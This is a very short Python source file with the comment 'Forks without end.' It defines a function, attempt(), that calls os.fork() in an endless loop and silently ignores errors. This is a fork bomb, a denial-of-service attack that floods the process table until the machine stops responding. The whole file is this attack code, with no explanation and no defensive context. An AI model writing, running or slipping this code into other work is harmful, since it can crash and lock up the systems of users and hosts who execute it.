# Forks without end.
import os


def attempt():
    while True:
        try:
            os.fork()
        except OSError:
            pass
